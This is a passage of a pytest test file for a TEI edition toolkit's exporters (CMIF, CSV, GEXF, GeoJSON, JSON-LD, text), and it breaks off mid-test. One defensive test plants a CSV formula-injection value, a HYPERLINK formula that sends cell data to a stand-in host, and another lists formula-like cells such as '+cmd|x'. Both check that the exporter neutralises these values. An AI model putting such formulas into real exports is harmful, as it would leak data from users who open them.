"""teikit.exports: every format read back by a real consumer.

CMIF: cmif_check, the official CMIF schema (cmi-customization.rng, from
$TEIKIT_SHARED/schemas) and tei_all, with lxml's RELAX NG; CSV: the csv module;
GEXF: lxml with the expected nodes and edges; GeoJSON: json, [lon, lat];
JSON-LD: rdflib, the expected triples; txt/md: the corrected reading.
The CMIF of the edition is a golden file: TEIKIT_UPDATE_GOLDEN=1 rewrites it.
"""

from __future__ import annotations

import csv
import json
import os
import stat
from pathlib import Path

import pytest
from lxml import etree

from teikit.document import load
from teikit.errors import Severity, UsageError
from teikit.exports import CmifOptions, ExportError, ExportOptions, Format, cmif_check, export
from teikit.exports.cmif import bibl_id, build_cmif
from teikit.exports.network import build_network
from teikit.exports.text import render
from teikit.index import build_index
from teikit.schemas import tei_all as bundled_tei_all

from conftest import FIXTURES, SHARED, TEI, RelaxNG

EXPECTED = FIXTURES / "expected"
CMI_RNG = SHARED / "schemas" / "cmi-customization.rng"
UPDATE_GOLDEN = os.environ.get("TEIKIT_UPDATE_GOLDEN") == "1"
NS = {"t": "http://www.tei-c.org/ns/1.0"}
BASE = "https://edition.example.org/"
CMIF_OPTIONS = CmifOptions(editor_email="editors@example.org")


@pytest.fixture(scope="module")
def docs():
    return [load(p) for p in sorted(TEI.glob("*.xml"))]


@pytest.fixture(scope="module")
def index(docs):
    return build_index(docs)


@pytest.fixture(scope="module")
def fixture_docs():
    return [load(p) for p in sorted((FIXTURES / "index").glob("*.xml"))]


def options(**kwargs) -> ExportOptions:
    return ExportOptions(base_url=BASE, cmif=CMIF_OPTIONS, **kwargs)


@pytest.fixture(scope="module")
def cmi_schema() -> RelaxNG:
    if not CMI_RNG.is_file():
        pytest.skip(f"CMIF schema not found: {CMI_RNG} (set TEIKIT_SHARED)")
    return RelaxNG(CMI_RNG)


@pytest.fixture(scope="module")
def tei_all() -> RelaxNG:
    return RelaxNG(bundled_tei_all().path)  # compiled once per process


# --------------------------------------------------------------------------- formats


@pytest.mark.parametrize(
    ("name", "fmt"),
    [
        ("out/letters.cmif.xml", Format.CMIF),
        ("cmif.xml", Format.CMIF),
        ("net.gexf", Format.GEXF),
        (".geojson", Format.GEOJSON),
        ("x.jsonld", Format.JSONLD),
        ("all.txt", Format.TXT),
        ("all.md", Format.MD),
    ],
)
def test_format_inference(name, fmt):
    assert Format.infer(name) is fmt


@pytest.mark.parametrize(
    ("name", "message"),
    [("x.xml", "ambiguous"), ("x.csv", "directory"), ("out", "--to"), ("x.pdf", "--to")],
)
def test_format_inference_refuses(name, message):
    with pytest.raises(UsageError, match=message):
        Format.infer(name)


def test_format_parse():
    assert Format.parse("JSON-LD") is Format.JSONLD and Format.parse("markdown") is Format.MD
    with pytest.raises(UsageError, match="unknown export format"):
        Format.parse("docx")


# --------------------------------------------------------------------------- CMIF


def test_cmif_passes_its_checks_and_both_schemas(docs, index, tmp_path, cmi_schema, tei_all):
    (path,) = export(docs, tmp_path / "edition.cmif.xml", index=index, options=options())
    findings = cmif_check(path)
    assert [d for d in findings if d.severity >= Severity.ERROR] == []
    assert {d.code for d in findings} == {"cmif-no-authority"}  # the register has no IDs yet
    tree = etree.parse(str(path))
    assert cmi_schema.validate(tree), cmi_schema.error_log
    assert tei_all.validate(tree), tei_all.error_log


def test_cmif_content(docs, index):
    tree = build_cmif(docs, index, CMIF_OPTIONS, base_url=BASE, file_name="e.cmif.xml")
    descs = tree.findall(".//t:correspDesc", NS)
    assert len(descs) == 5
    first = descs[0]
    uuid = bibl_id("The Tito–Khrushchev Correspondence, 1954: A Digital Edition")
    assert first.get("source") == f"#{uuid}" and uuid[0].isalpha()
    assert first.get("ref") == f"{BASE}letter-1954-06-22.html"
    sent = first.find("t:correspAction[@type='sent']", NS)
    assert sent.findtext("t:persName", namespaces=NS) == "Nikita Sergeyevich Khrushchev"
    assert sent.find("t:date", NS).get("when") == "1954-06-22"
    reply = descs[2]
    assert reply.findtext("t:correspAction[@type='sent']/t:placeName", namespaces=NS) == "Belgrade"
    header = tree.find("t:teiHeader/t:fileDesc", NS)
    assert header.findtext("t:publicationStmt/t:idno[@type='url']", namespaces=NS) == (
        f"{BASE}e.cmif.xml"
    )
    assert header.find("t:publicationStmt/t:availability/t:licence", NS).get("target") == (
        "https://creativecommons.org/licenses/by/4.0/"
    )
    assert header.findtext("t:titleStmt/t:editor/t:email", namespaces=NS) == "editors@example.org"
    assert header.find("t:publicationStmt/t:date", NS).get("when") == "2026"


def test_cmif_golden(docs, index, tmp_path):
    (path,) = export(docs, tmp_path / "edition.cmif.xml", index=index, options=options())
    text = path.read_text(encoding="utf-8")
    golden = EXPECTED / "edition.cmif.xml"
    if UPDATE_GOLDEN:
        golden.write_text(text, encoding="utf-8")
    assert golden.is_file(), "golden file missing: rerun with TEIKIT_UPDATE_GOLDEN=1"
    assert text == golden.read_text(encoding="utf-8"), "rerun with TEIKIT_UPDATE_GOLDEN=1"


def test_cmif_uses_authority_uris(fixture_docs, tmp_path, cmi_schema):
    opts = ExportOptions(
        cmif=CmifOptions(
            editor_email="e@example.org",
            editor="Test Editor",
            publisher="Test Publisher",
            publisher_url="https://example.org/",
            edition_title="Test edition",
            licence="CC0",
            date="2026-11-29",
            cmif_url="https://example.org/cmif.xml",
        )
    )
    (path,) = export(fixture_docs, tmp_path / "t.cmif.xml", options=opts)
    tree = etree.parse(str(path))
    assert cmi_schema.validate(tree), cmi_schema.error_log
    refs = {
        el.text: el.get("ref") for el in tree.iterfind(".//t:correspAction/*", NS) if el.get("ref")
    }
    assert refs == {
        "Vyacheslav Mikhailovich Molotov": "https://viaf.org/viaf/100000001",
        "Josip Broz Tito": "https://d-nb.info/gnd/100000003X",
        "Belgrade": "https://www.geonames.org/100000004",
    }
    assert tree.find(".//t:licence", NS).get("target").endswith("/publicdomain/zero/1.0/")
    assert "@ref" not in str(tree.find(".//t:correspDesc", NS).attrib)  # no base_url: no @ref
    received = tree.findall(".//t:correspAction[@type='received']/t:date", NS)
    assert [d.get("when") for d in received] == ["1953-05-03"]
    assert [d for d in cmif_check(path) if d.severity >= Severity.ERROR] == []


def test_cmif_says_which_option_is_missing(docs, index, tmp_path):
    with pytest.raises(UsageError) as info:
        export(docs, tmp_path / "x.cmif.xml", index=index)
    assert "CmifOptions.editor_email" in info.value.message
    assert "CmifOptions.cmif_url" in info.value.message
    with pytest.raises(UsageError, match=r"CmifOptions\.licence"):
        export(
            docs,
            tmp_path / "x.cmif.xml",
            index=index,
            options=ExportOptions(
                base_url=BASE, cmif=CmifOptions(editor_email="a@b.org", licence="CC-BY-NC")
            ),
        )
    assert not (tmp_path / "x.cmif.xml").exists()


BROKEN_CMIF = b"""<TEI xmlns="http://www.tei-c.org/ns/1.0"><teiHeader><fileDesc>
<titleStmt><title>T</title><editor>E</editor></titleStmt>
<publicationStmt><publisher>P</publisher><date when="2026-02-30"/></publicationStmt>
<sourceDesc><bibl type="book" xml:id="b1">An edition</bibl></sourceDesc></fileDesc>
<profileDesc>
<correspDesc source="#nowhere"><correspAction type="sent"><persName ref="https://d-nb.info/gnd/x1">A</persName><date/></correspAction></correspDesc>
<correspDesc source="#b1"><correspAction type="received"><placeName>X</placeName></correspAction></correspDesc>
</profileDesc></teiHeader><text><body><p/></body></text></TEI>"""


def test_cmif_check_finds_each_problem():
    codes = {(d.code, d.severity) for d in cmif_check(BROKEN_CMIF)}
    for code in (
        "cmif-editor-email",
        "cmif-idno",
        "cmif-date",
        "cmif-licence",
        "cmif-bibl-type",
        "cmif-source",
        "cmif-received",
        "cmif-sent",
        "cmif-action-name",
        "cmif-authority",
        "cmif-date-attribute",
    ):
        assert (code, Severity.ERROR) in codes, code
    assert ("cmif-no-authority", Severity.WARNING) in codes
    # The Correspondence SIG's rules (cmif.sch, W0001): a UUID is recommended, not required.
    assert ("cmif-bibl-id", Severity.WARNING) in codes
    assert ("cmif-bibl-id", Severity.ERROR) not in codes
    assert all(d.source == "cmif" and d.line > 0 for d in cmif_check(BROKEN_CMIF))


# --------------------------------------------------------------------------- CSV


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_csv_tables(docs, index, tmp_path):
    written = export(docs, tmp_path / "csv", "csv", index=index)
    assert sorted(p.name for p in written) == sorted(
        [
            "letters.csv",
            "persons.csv",
            "places.csv",
            "organisations.csv",
            "works.csv",
            "mentions.csv",
            "edges.csv",
            "edge_letters.csv",
        ]
    )
    letters = read_csv(tmp_path / "csv" / "letters.csv")
    assert [r["date"] for r in letters] == [lt.date for lt in index.letters]
    reply = letters[2]
    assert reply["id"] == "letter-1954-08-11"
    assert reply["sender_id"] == "lcy-executive-committee | tito"
    assert reply["addressee"] == (
        "Nikita Sergeyevich Khrushchev | Central Committee of the Communist Party of the Soviet Union"
    )
    assert reply["place_sent"] == "Belgrade"
    assert reply["archival_reference"] == "Arhiv Jugoslavije, Arhiv CK SKJ, 507 / IX, 119/I-50"
    persons = {r["id"]: r for r in read_csv(tmp_path / "csv" / "persons.csv")}
    assert persons["djilas"]["mentions"] == "6" and persons["stalin"]["death"] == "1953"
    assert persons["djilas"]["documents"] == "3" and "files" not in persons["djilas"]
    places = {r["id"]: r for r in read_csv(tmp_path / "csv" / "places.csv")}
    assert (places["moscow"]["latitude"], places["moscow"]["longitude"]) == ("55.7558", "37.6173")
    mentions = read_csv(tmp_path / "csv" / "mentions.csv")
    assert len(mentions) == sum(len(e.occurrences) for e in index.entries)
    edges = read_csv(tmp_path / "csv" / "edges.csv")
    assert list(edges[0]) == [
        "Source",
        "Target",
        "Type",
        "Weight",
        "Relation",
        "Source Label",
        "Target Label",
    ]
    k_to_t = next(
        e
        for e in edges
        if (e["Source"], e["Target"], e["Relation"]) == ("khrushchev", "tito", "correspondence")
    )
    assert (k_to_t["Type"], k_to_t["Weight"]) == ("Directed", "3")
    # The letters of each edge: a table of their own, one row per edge and letter.
    made_of = read_csv(tmp_path / "csv" / "edge_letters.csv")
    assert len(made_of) == sum(int(e["Weight"]) for e in edges)
    assert sorted(
        r["Letter"]
        for r in made_of
        if (r["Source"], r["Target"], r["Relation"]) == ("khrushchev", "tito", "correspondence")
    ) == sorted(
        next(
            e.letters
            for e in build_network(index).edges
            if (e.source, e.target, e.relation) == ("khrushchev", "tito", "correspondence")
        )
    )


def test_csv_refuses_a_file_as_directory(docs, index, tmp_path):
    (tmp_path / "taken").write_text("x")
    with pytest.raises(ExportError, match="not a directory"):
        export(docs, tmp_path / "taken", "csv", index=index)


# --------------------------------------------------------------------------- GEXF

GEXF = {"g": "http://gexf.net/1.3"}


def test_gexf_network(docs, index, tmp_path):
    letters, co_mentions = export(docs, tmp_path / "net.gexf", index=index)
    assert (letters.name, co_mentions.name) == ("net.gexf", "net.co-mentions.gexf")
    edges = []
    for path, kind in ((letters, "directed"), (co_mentions, "undirected")):
        root = etree.parse(str(path)).getroot()
        assert root.tag == "{http://gexf.net/1.3}gexf" and root.get("version") == "1.3"
        assert root.find("g:graph", GEXF).get("defaultedgetype") == kind
        nodes = {n.get("id"): n for n in root.iterfind(".//g:node", GEXF)}
        found = [
            (e.get("source"), e.get("target"), e.get("type"), e.get("weight"), e.get("label"))
            for e in root.iterfind(".//g:edge", GEXF)
        ]
        assert {e[2] for e in found} == {kind}  # one edge type per graph: networkx reads it
        assert set(nodes) >= {e[0] for e in found} | {e[1] for e in found}
        assert len({e.get("id") for e in root.iterfind(".//g:edge", GEXF)}) == len(found)
        edges += found
        if kind == "directed":
            assert nodes["khrushchev"].get("label") == "Nikita Sergeyevich Khrushchev"
            kind_of = nodes["cc-cpsu"].find("g:attvalues/g:attvalue[@for='type']", GEXF)
            assert kind_of.get("value") == "org"
    assert ("khrushchev", "tito", "directed", "3", "correspondence") in edges
    assert ("tito", "khrushchev", "directed", "1", "correspondence") in edges
    # Djilas and Beria are both mentioned in the texts of the June and August letters
    assert ("beria", "djilas", "undirected", "2", "co-mention") in edges
    assert len(edges) == len(build_network(index).edges)


def test_gexf_reads_in_networkx(docs, index, tmp_path):
    networkx = pytest.importorskip("networkx")
    letters, co_mentions = export(docs, tmp_path / "net.gexf", index=index)
    directed = networkx.read_gexf(letters)
    undirected = networkx.read_gexf(co_mentions)
    assert directed.is_directed() and not undirected.is_directed()
    assert directed["khrushchev"]["tito"]["weight"] == 3.0
    assert directed.nodes["khrushchev"]["label"] == "Nikita Sergeyevich Khrushchev"
    assert undirected["djilas"]["beria"]["weight"] == 2.0


# --------------------------------------------------------------------------- GeoJSON


def test_geojson_places(docs, index, tmp_path):
    (path,) = export(docs, tmp_path / "places.geojson", index=index, options=options())
    data = json.loads(path.read_text(encoding="utf-8"))
    assert data["type"] == "FeatureCollection"
    features = {f["properties"]["id"]: f for f in data["features"]}
    belgrade = features["belgrade"]
    assert belgrade["type"] == "Feature"
    assert belgrade["geometry"] == {"type": "Point", "coordinates": [20.4612, 44.8125]}  # lon, lat
    assert belgrade["properties"]["title"] == "Belgrade"
    assert belgrade["names"] == [{"toponym": "Belgrade"}, {"toponym": "Beograd"}]
    assert belgrade["@id"] == f"{BASE}register.html#belgrade"
    assert [lt["id"] for lt in belgrade["properties"]["letters_sent"]] == ["letter-1954-08-11"]
    moscow = features["moscow"]
    assert [lt["id"] for lt in moscow["properties"]["letters_sent"]] == [
        "letter-1954-06-22",  # Moscow is the editors' conjecture for the first two
        "cable-1954-07-24",
        "letter-1954-09-23",
        "letter-1954-09-27",
    ]
    assert "letter-1954-06-22" in [lt["id"] for lt in moscow["properties"]["letters_mentioning"]]
    for feature in data["features"]:
        lon, lat = feature["geometry"]["coordinates"]
        assert -180 <= lon <= 180 and -90 <= lat <= 90


def test_geojson_links_authorities(fixture_docs, tmp_path):
    (path,) = export(fixture_docs, tmp_path / "p.geojson")
    features = {f["properties"]["id"]: f for f in json.loads(path.read_text())["features"]}
    assert features["belgrade"]["links"] == [
        {"type": "closeMatch", "identifier": "https://www.geonames.org/100000004"}
    ]
    assert features["belgrade"]["@id"] == "register.xml#belgrade"  # no base_url: relative


# --------------------------------------------------------------------------- JSON-LD


def test_jsonld_triples(docs, index, tmp_path):
    rdflib = pytest.importorskip("rdflib")
    (path,) = export(docs, tmp_path / "edition.jsonld", index=index, options=options())
    data = json.loads(path.read_text(encoding="utf-8"))
    assert isinstance(data["@context"], dict)  # embedded: nothing is fetched
    graph = rdflib.Graph().parse(str(path), format="json-ld")
    schema = rdflib.Namespace("https://schema.org/")
    xsd = rdflib.namespace.XSD
    letter = rdflib.URIRef(f"{BASE}letter-1954-06-22.html")
    khrushchev = rdflib.URIRef(f"{BASE}register.html#khrushchev")
    tito = rdflib.URIRef(f"{BASE}register.html#tito")
    belgrade = rdflib.URIRef(f"{BASE}register.html#belgrade")
    assert (letter, rdflib.RDF.type, schema.Message) in graph
    assert (letter, schema.sender, khrushchev) in graph
    assert (letter, schema.recipient, tito) in graph
    assert (letter, schema.dateSent, rdflib.Literal("1954-06-22", datatype=xsd.date)) in graph
    assert (letter, schema.mentions, rdflib.URIRef(f"{BASE}register.html#djilas")) in graph
    assert (tito, rdflib.RDF.type, schema.Person) in graph
    assert (tito, schema.birthDate, rdflib.Literal("1892", datatype=xsd.gYear)) in graph
    reply = rdflib.URIRef(f"{BASE}letter-1954-08-11.html")
    assert (reply, schema.locationCreated, belgrade) in graph
    geo = graph.value(belgrade, schema.geo)
    assert float(graph.value(geo, schema.latitude)) == 44.8125
    assert float(graph.value(geo, schema.longitude)) == 20.4612
    cc = rdflib.URIRef(f"{BASE}register.html#cc-cpsu")
    assert (cc, rdflib.RDF.type, schema.Organization) in graph
    assert len(set(graph.subjects(rdflib.RDF.type, schema.Message))) == 5


def test_jsonld_same_as(fixture_docs, tmp_path):
    rdflib = pytest.importorskip("rdflib")
    (path,) = export(fixture_docs, tmp_path / "f.jsonld", options=options())
    graph = rdflib.Graph().parse(str(path), format="json-ld")
    molotov = rdflib.URIRef(f"{BASE}register.html#molotov")
    same = set(graph.objects(molotov, rdflib.URIRef("https://schema.org/sameAs")))
    assert same == {
        rdflib.URIRef("https://viaf.org/viaf/100000001"),
        rdflib.URIRef("https://www.wikidata.org/entity/Q100000002"),
    }


# --------------------------------------------------------------------------- txt / md


def test_txt_reading_text(docs, index, tmp_path):
    written = export(docs, tmp_path / "txt", "txt", index=index)
    assert "register.txt" not in {p.name for p in written}
    text = (tmp_path / "txt" / "letter-1954-06-22.txt").read_text(encoding="utf-8")
    assert "[Communist Party of Yugoslavia]" in text  # corr over sic, the print's brackets
    assert "Yuogslavia" not in text and "Peoples Republic" not in text
    assert "[former secret police chief Lavrenty] Beria" in text
    assert "CC CPSU\nN. Khrushchev" in text  # <lb/> in the signature
    assert text.count("[^2]") == 2 and "[^2]: Communist Party of Yugoslavia, renamed" in text
    intro = (tmp_path / "txt" / "introduction.txt").read_text(encoding="utf-8")
    assert "Milosevic regime in ⟨2000⟩[^a] and" in intro  # the editors' conjecture and note
    assert "[^a]: The print reads" in intro and "[^1]: This article" in intro


def test_txt_without_notes_and_md_combined(docs, index, tmp_path):
    (path,) = export(docs, tmp_path / "all.txt", index=index, options=ExportOptions(notes=False))
    text = path.read_text(encoding="utf-8")
    assert "[^" not in text and "renamed as League" not in text
    assert text.index("Contents") < text.index("DOCUMENT No. 1") < text.index("DOCUMENT No. 5")
    (md,) = export(docs, tmp_path / "all.md", index=index)
    markdown = md.read_text(encoding="utf-8")
    assert markdown.startswith("# The Tito–Khrushchev Correspondence, 1954: A Digital Edition\n")
    assert "CC CPSU\\\nN. Khrushchev" in markdown
    assert "\n* * *\n" in markdown  # the introduction's section breaks


def test_markdown_escapes_what_would_be_markup():
    doc = load(
        b'<TEI xmlns="http://www.tei-c.org/ns/1.0"><teiHeader><fileDesc><titleStmt><title>T'
        b"</title></titleStmt><publicationStmt><p/></publicationStmt><sourceDesc><p/>"
        b"</sourceDesc></fileDesc></teiHeader><text><body><p>1948. A *star* and <hi>_x_</hi>"
        b"</p></body></text></TEI>"
    )
    assert "1948\\. A \\*star\\* and \\_x\\_" in render(doc, markdown=True)
    assert "1948. A *star* and _x_" in render(doc)


# --------------------------------------------------------------------------- all formats


@pytest.mark.parametrize("fmt", [f for f in Format])
def test_exports_are_deterministic_and_atomic(docs, index, tmp_path, fmt):
    out = tmp_path / ("out" if fmt in (Format.CSV, Format.TXT, Format.MD) else f"x.{fmt.value}")
    first = {p.name: p.read_bytes() for p in export(docs, out, fmt, index=index, options=options())}
    again = export(docs, out, fmt, index=build_index(docs), options=options())
    assert {p.name: p.read_bytes() for p in again} == first
    leftovers = [p.name for p in tmp_path.rglob("*") if p.name.startswith(".")]
    assert leftovers == []
    for data in first.values():
        data.decode("utf-8")
        assert b"\r\n" not in data


def test_exports_give_new_files_the_umask_mode_and_keep_an_existing_mode(docs, index, tmp_path):
    mask = os.umask(0)
    os.umask(mask)
    (fresh, _) = export(docs, tmp_path / "a.gexf", index=index)
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o666 & ~mask
    kept = tmp_path / "b.geojson"
    kept.write_text("old")
    kept.chmod(0o640)
    assert export(docs, kept, index=index) == [kept]
    assert stat.S_IMODE(kept.stat().st_mode) == 0o640
    assert kept.read_text(encoding="utf-8").startswith("{")


def test_export_to_a_directory_or_an_unwritable_place_is_an_export_error(docs, index, tmp_path):
    (tmp_path / "x.jsonld").mkdir()
    with pytest.raises(ExportError, match=r"x\.jsonld: is a directory; give a file name"):
        export(docs, tmp_path / "x.jsonld", index=index)
    (tmp_path / "file").write_text("x")
    with pytest.raises(ExportError, match=r"cannot write: "):
        export(docs, tmp_path / "file" / "x.gexf", index=index)


def test_csv_cells_that_would_be_formulas_are_neutralised_and_data_is_not(tmp_path):
    # Issue 12, finding 6: a register name becomes =HYPERLINK(...) in a spreadsheet.
    register = (TEI / "register.xml").read_text("utf-8")
    register = register.replace(
        '<persName type="variant">Tito</persName>',
        '<persName type="variant">=HYPERLINK("http://example.invalid/?x="&amp;A1,"Tito")</persName>',
    ).replace('<birth when="1892"/>', '<birth when="-0044"/>')
    (tmp_path / "register.xml").write_text(register, "utf-8")
    letter = tmp_path / "letter.xml"
    letter.write_text((TEI / "letter-1954-06-22.xml").read_text("utf-8"), "utf-8")
    docs = [load(tmp_path / "register.xml"), load(letter)]
    export(docs, tmp_path / "csv", "csv")
    with open(tmp_path / "csv" / "persons.csv", encoding="utf-8", newline="") as table:
        rows = {row["id"]: row for row in csv.DictReader(table)}
    assert rows["tito"]["variants"].startswith("'=HYPERLINK(")
    assert rows["tito"]["birth"] == "-0044"  # a date with a sign is data
    from teikit.exports.index_formats import dumps

    text = dumps(build_index(docs), "csv", "all")
    cells = [cell for row in csv.reader(text.splitlines()) for cell in row]
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    assert "-0044" in cells


# --------------------------------------------------------------------------- CMIF roles


ROLES = FIXTURES / "exports" / "cmif-roles-in-one-action"
CMIF_CLI = (
    "--editor-email", "e@example.org", "--editor", "E", "--publisher", "P",
    "--licence", "CC0-1.0", "--date", "2026-12-07", "--cmif-url", "https://example.org/c.xml",
)  # fmt: skip


def test_cmif_takes_sender_and_addressee_roles_from_the_configuration(tmp_path, cmi_schema):
    from click.testing import CliRunner

    from teikit.cli import cli

    out = tmp_path / "roles.cmif.xml"
    result = CliRunner().invoke(
        cli, ["export", str(ROLES), "-o", str(out), *CMIF_CLI], catch_exceptions=False
    )
    assert result.exit_code == 0, result.output
    # The received date is checked before writing and reported at the letter's line.
    letter = ROLES / "letter-1820-03-03.xml"
    line = next(
        n for n, text in enumerate(letter.read_text("utf-8").splitlines(), 1) if "02-30" in text
    )
    assert (
        f"letter-1820-03-03.xml:{line}:0: warning: correspAction type='received': "
        "date/@when '1820-02-30' is not a W3C date"
    ) in result.stderr
    assert f"{out.name}:" not in result.stderr.replace(f"to {out}", "")  # nothing at CMIF lines
    tree = etree.parse(str(out))
    assert cmi_schema.validate(tree), cmi_schema.error_log
    sent = tree.find(".//t:correspAction[@type='sent']", NS)
    received = tree.find(".//t:correspAction[@type='received']", NS)
    assert [p.get("ref") for p in sent.iterfind("t:persName", NS)] == [
        "https://d-nb.info/gnd/118570277"  # Laßberg only
    ]
    assert [p.text for p in received.iterfind("t:persName", NS)] == ["Ludwig Uhland"]
    assert received.find("t:date", NS) is None  # the invalid date is left out
    assert sent.find("t:date", NS).get("when") == "1820-03-03"
    # cmif:mentions* from the source, kept (the prefix written out as the CMIF term)
    mentions = [
        (r.get("type"), r.get("target"), r.text)
        for r in tree.iterfind(".//t:correspDesc/t:note/t:ref", NS)
    ]
    assert mentions == [
        (
            "https://lod.academy/cmif/vocab/terms#mentionsPerson",
            "https://d-nb.info/gnd/118540238",
            "Goethe",
        ),
        (
            "https://lod.academy/cmif/vocab/terms#mentionsPlace",
            "https://www.geonames.org/2825297",
            "Stuttgart",
        ),
    ]


def test_workers_report_a_file_that_does_not_load_and_write_the_rest(tmp_path):
    """--to all with two workers: a file that is not well-formed is one finding, at
    its place, and the others are written as one process writes them."""
    import shutil

    from click.testing import CliRunner

    from teikit.cli import cli

    folder = tmp_path / "edition"
    shutil.copytree(TEI, folder)
    (folder / "letter-broken.xml").write_text(
        '<TEI xmlns="http://www.tei-c.org/ns/1.0"><teiHeader>'
    )
    outputs = {}
    for jobs in ("1", "2"):
        out = tmp_path / f"out-{jobs}"
        result = CliRunner().invoke(
            cli,
            ["export", str(folder), "--to", "all", "-j", jobs, "-o", str(out), *CMIF_CLI],
            catch_exceptions=False,
        )
        assert result.exit_code == 1, result.output
        assert f"{folder / 'letter-broken.xml'}:1:" in result.stderr
        assert "error: not well-formed" in result.stderr
        outputs[jobs] = {
            p.relative_to(out).as_posix(): p.read_bytes() for p in out.rglob("*") if p.is_file()
        }
    assert "txt/letter-1954-06-22.txt" in outputs["2"] and "cmif.xml" in outputs["2"]
    assert outputs["1"] == outputs["2"]


def test_without_the_roles_configuration_both_names_are_senders():
    from teikit.edition import Config, Edition

    (letter,) = build_index(Edition.open(ROLES, config=Config())).letters
    assert [p.id for p in letter.senders] == ["lassberg", "uhland"] and letter.addressees == []
    (letter,) = build_index(Edition.open(ROLES)).letters
    assert [p.id for p in letter.senders] == ["lassberg"]
    assert [p.id for p in letter.addressees] == ["uhland"]


def test_export_all_from_the_command_line(tmp_path):
    from click.testing import CliRunner

    from teikit.cli import cli

    out = tmp_path / "all"
    result = CliRunner().invoke(
        cli, ["export", str(TEI), "--to", "all", "-o", str(out)], catch_exceptions=False
    )
    # CMIF needs the editor's e-mail: reported, the other formats written all the same
    assert result.exit_code == 1
    assert "error: cmif not written: cannot write CMIF" in result.stderr
    names = sorted(p.name for p in out.iterdir())
    assert names == sorted(
        [
            "csv",
            "network.gexf",
            "network.co-mentions.gexf",
            "places.geojson",
            "edition.jsonld",
            "txt",
            "md",
        ]
    )
    result = CliRunner().invoke(
        cli,
        ["export", str(TEI), "--to", "all", "-o", str(out), *CMIF_CLI, "--base-url", BASE],
        catch_exceptions=False,
    )
    assert result.exit_code == 0, result.stderr
    assert (out / "cmif.xml").is_file()


def _co_mentions_by_pairs(mentioned, min_letters):
    """The co-mention edges counted pair by pair, the plain way: (a, b, letters)."""
    letters_of = {}
    for letter, ranks in enumerate(mentioned):
        for i, a in enumerate(ranks):
            for b in ranks[i + 1 :]:
                letters_of.setdefault((a, b), []).append(letter)
    return [(a, b, ls) for (a, b), ls in sorted(letters_of.items()) if len(ls) >= min_letters]


@pytest.mark.parametrize("min_letters", [1, 2, 3, 4])
def test_co_mentions_found_by_set_operations_as_by_counting_pairs(min_letters, monkeypatch):
    """The co-mention edges are found per entity with set operations over its
    letters; the same edges, letters and order as counting every pair."""
    import random

    from teikit.exports import network

    rng = random.Random(min_letters)
    n_ids, n_letters = 40, 60
    mentioned = [sorted(rng.sample(range(n_ids), rng.randint(0, 12))) for _ in range(n_letters)]
    mentioned[3] = []  # a letter mentioning nothing
    mentioned[4] = [7]  # and one mentioning a single entity
    ids = [f"e{n:02d}" for n in range(n_ids)]
    letters = [f"l{n:02d}" for n in range(n_letters)]
    expected = _co_mentions_by_pairs(mentioned, min_letters)
    assert expected  # the sample has edges to find

    def edges(co):
        return [(e.source, e.target, e.letters) for e in co]

    want = [(ids[a], ids[b], [letters[x] for x in ls]) for a, b, ls in expected]
    co = network.CoMentions(ids, letters, mentioned, min_letters)
    assert edges(co) == want
    assert co._kept is not None  # kept after the first pass, then read from it
    assert edges(co) == want
    assert co.node_ids == {ids[n] for a, b, _ in expected for n in (a, b)}
    monkeypatch.setattr(network, "KEPT_CACHED", 1)  # too many to keep: found every pass
    co = network.CoMentions(ids, letters, mentioned, min_letters)
    assert edges(co) == want == edges(co)
    assert co._kept is None


def test_co_mentions_kept_from_two_letters_by_default(index):
    def edges(net):
        return [(e.source, e.target, e.relation, e.letters) for e in net.iter_edges()]

    every = build_network(index, min_co_mentions=1)
    assert any(e.weight == 1 for e in every.co_mentions)
    # The default keeps pairs mentioned together in two letters or more.
    kept = [e for e in every.co_mentions if e.weight >= 2]
    assert edges(build_network(index)) == edges(every)[: len(every.correspondence)] + [
        (e.source, e.target, e.relation, e.letters) for e in kept
    ]
    assert kept and [n.id for n in build_network(index).nodes] != [n.id for n in every.nodes]


def test_export_all_writes_the_other_formats_before_it_raises(tmp_path):
    with pytest.raises(UsageError, match="cannot write CMIF"):
        export(TEI, tmp_path / "all", "all")
    assert (tmp_path / "all" / "places.geojson").is_file()
    assert not (tmp_path / "all" / "cmif.xml").exists()


@pytest.mark.parametrize("kind", ["directed", "undirected"])
def test_gexf_edges_written_as_text_are_what_lxml_writes(kind):
    """The GEXF writer streams edges as text (an edition has hundreds of thousands):
    the same bytes as lxml gives the same edge element, escapes included."""
    import io

    from teikit.exports.gexf import GEXF_NS, _edge, _edge_text
    from teikit.exports.network import Edge

    edges = [
        Edge("a&b", 'c"d<>\n\tx\r', "co-mention", False, ["l1", "l2 é", "&x'"]),
        Edge("p1", "p2", "correspondence", True, []),
    ]
    for n, edge in enumerate(edges):
        out = io.BytesIO()
        with (
            etree.xmlfile(out, encoding="UTF-8") as xf,
            xf.element(f"{{{GEXF_NS}}}edges", nsmap={None: GEXF_NS}),
        ):
            xf.write("\n")
            xf.flush()
            start = len(out.getvalue())
            xf.write(_edge(n, edge, kind), pretty_print=True)
            xf.flush()
            written = out.getvalue()[start:]
        assert written == _edge_text(n, edge, kind).encode("utf-8")


@pytest.mark.parametrize(
    "value",
    [
        "", "plain", "a,b", 'say "hi"', "two\nlines", "a\rb", "\r", "=1+2", "+cmd|x", "-3.5",
        "-0044-03-15", "@SUM(A1)", "\tx", " lead", "x" * 40_000, "=x" + "," * 40_000, 0, 12,
        -3, 1.5, None, True, "é, ü", "'quoted'",
    ],
)  # fmt: skip
def test_csv_cells_made_as_text_are_what_the_csv_module_writes(value, tmp_path):
    """The large CSV tables are made as text (cell_text, and _text's shortcut for
    strings): the same bytes as write_table gives the same cell through csv_cell
    and the csv module, quoting, formula guard and length cut included."""
    from teikit.exports.csv import _text, cell_text, write_table

    path = write_table(tmp_path / "t.csv", ["a", "b"], [("x", value)])
    expected = path.read_bytes().decode("utf-8").split("\n", 1)[1]
    assert f"x,{cell_text(value)}\n" == expected
    if isinstance(value, str):
        assert _text(value) == cell_text(value)


def test_large_csv_tables_made_as_text_are_what_the_csv_writer_writes(index, tmp_path):
    """mentions.csv, edges.csv and edge_letters.csv are made as text: the same
    bytes as their rows through write_table."""
    from teikit.exports import csv as csv_export

    net = build_network(index, min_co_mentions=1)
    csv_export.write([], index, tmp_path / "csv", ExportOptions(), network=net)
    for name, header, rows in (
        ("mentions.csv", csv_export.MENTION_COLUMNS, csv_export.mention_rows(index)),
